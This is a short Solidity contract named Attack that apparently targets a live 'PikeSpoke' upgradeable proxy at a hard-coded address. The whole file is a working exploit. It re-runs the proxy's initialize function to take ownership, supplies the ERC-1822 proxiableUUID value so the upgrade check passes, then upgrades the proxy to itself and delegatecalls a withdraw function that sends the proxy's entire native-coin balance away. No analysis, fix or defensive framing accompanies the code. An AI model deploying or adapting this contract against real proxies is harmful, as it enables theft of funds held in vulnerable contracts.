// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface PikeSpoke {
    function initialize(
        address owner,
        address wNative,
        address uniswapHelper,
        address token,
        uint16 swapFee,
        uint16 withdrawFee
    ) external;
    function upgradeToAndCall(address implementation, bytes calldata data) external payable;
}

/// Initialises a live proxy again, which makes it the owner, and upgrades the proxy to itself to send its coins away.
contract Attack {
    PikeSpoke constant PROXY = PikeSpoke(0xFC7599cfFea9De127a9f9C748CCb451a34d2F063);

    function attack() external {
        PROXY.initialize(address(this), address(this), address(this), address(this), 20, 20);
        PROXY.upgradeToAndCall(address(this), abi.encodeCall(this.withdraw, (payable(this))));
    }

    /// ERC-1822: without this answer the proxy refuses the upgrade.
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    /// Runs in the proxy by delegatecall.
    function withdraw(address payable to) external {
        (bool isSent,) = to.call{value: address(this).balance}("");
        require(isSent);
    }

    receive() external payable {}
}
